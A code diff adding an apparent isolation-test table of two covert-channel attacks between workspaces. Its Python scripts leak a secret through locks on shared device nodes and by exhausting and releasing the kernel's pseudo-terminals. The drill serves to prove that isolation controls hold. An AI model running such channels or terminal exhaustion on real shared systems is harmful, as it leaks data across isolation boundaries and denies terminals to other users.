@@ -1,0 +1,148 @@
+extension AttackTable {
+  /// Signals through things of which the kernel has one for all workspaces.
+  static let shared: [Attack] = [
+    Attack(
+      id: "neighbour-device-locks", path: .tunnel, title: "locks on device nodes that both workspaces see",
+      closedBy: "own device nodes each (launcher)", provesControls: [.privateDevices], needs: [.neighbour],
+      tools: [.python],
+      attempts: [
+        Attempt(
+          "four bits and a clock as five locks", tries: 1,
+          deviceScript(
+            #"""
+            time.sleep(0.3)
+            for byte in CANARY.encode():
+                for half in (byte >> 4, byte & 15):
+                    held = [open(path) for bit, path in enumerate(DATA) if half >> bit & 1] + [open(CLOCK)]
+                    for file in held:
+                        fcntl.flock(file, fcntl.LOCK_EX)
+                    time.sleep(0.15)
+                    # The clock goes first: what is read after it does not count.
+                    for file in reversed(held):
+                        file.close()
+                    time.sleep(0.15)
+            """#),
+          receiver: deviceScript(
+            #"""
+            import select
+            halves, was = [], False
+            ready()
+            while not select.select([sys.stdin], [], [], 0.005)[0]:
+                now = taken(CLOCK)
+                if now and not was:
+                    halves.append(sum(taken(path) << bit for bit, path in enumerate(DATA)))
+                was = now
+            pairs = zip(halves[::2], halves[1::2])
+            print(bytes(high << 4 | low for high, low in pairs).decode("latin-1"), flush=True)
+            """#), evidence: [.receiver], seconds: 40, secretLength: 6)
+      ]),
+    Attack(
+      id: "neighbour-terminals", path: .tunnel, title: "the kernel's last terminal",
+      closedBy: "a share of the terminals each (kernel)", provesControls: [.terminalLimit],
+      needs: [.neighbour], tools: [.python],
+      attempts: [
+        Attempt(
+          "taking all terminals and giving one back", tries: 1,
+          terminalScript(
+            #"""
+            children = []
+            def fill():
+                """Takes what there is; children take over when this process may open no more files."""
+                held = []
+                while True:
+                    try:
+                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
+                    except OSError as error:
+                        return held, error.errno == errno.ENOSPC
+            soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+            held, full = fill()
+            while not full and len(children) < 64:
+                told, tell = os.pipe()
+                child = os.fork()
+                if child == 0:
+                    for file in held:
+                        os.close(file)
+                    more, full = fill()
+                    os.write(tell, b"f" if full else b"e")
+                    time.sleep(60)
+                    os._exit(0)
+                children.append(child)
+                full = os.read(told, 1) == b"f"
+            time.sleep(0.4)
+            # A bit is one terminal given back, or two; between bits there is none.
+            for letter in CANARY:
+                for bit in f"{ALPHABET.index(letter):05b}":
+                    count = 2 if bit == "1" else 1
+                    for _ in range(count):
+                        os.close(held.pop())
+                    time.sleep(0.2)
+                    while count > 0:
+                        try:
+                            held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
+                            count -= 1
+                        except OSError:
+                            time.sleep(0.001)
+                    time.sleep(0.15)
+            for child in children:
+                os.kill(child, 9)
+            """#),
+          receiver: terminalScript(
+            #"""
+            import select
+            def free():
+                """How many terminals are left, as far as three."""
+                held = []
+                try:
+                    while len(held) < 3:
+                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
+                except OSError:
+                    pass
+                for file in held:
+                    os.close(file)
+                return len(held)
+            ready()
+            bits, run = "", []
+            begun = False
+            while not select.select([sys.stdin], [], [], 0.01)[0]:
+                left = free()
+                begun = begun or left == 0
+                if not begun:
+                    continue
+                if left:
+                    run.append(left)
+                elif run:
+                    # One that is seen on the way from none to two is no bit.
+                    bits += "1" if max(run) == 2 else "0"
+                    run = []
+            print("".join(ALPHABET[int(bits[i:i + 5], 2)] for i in range(0, len(bits) - 4, 5)), flush=True)
+            """#), evidence: [.receiver], seconds: 60, secretLength: 6)
+      ]),
+  ]
+
+  /// Device nodes of which a host has one each. The drill's own process holds none of these locks.
+  private static func deviceScript(_ text: String) -> Script {
+    .python(
+      #"""
+      import fcntl
+      CLOCK, DATA = "/dev/urandom", ("/dev/null", "/dev/zero", "/dev/full", "/dev/random")
+      def taken(path):
+          with open(path) as file:
+              try:
+                  fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
+                  return False
+              except OSError:
+                  return True
+
+      """# + text)
+  }
+
+  private static func terminalScript(_ text: String) -> Script {
+    .python(
+      #"""
+      import errno, resource
+      ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"
+
+      """# + text)
+  }
+}
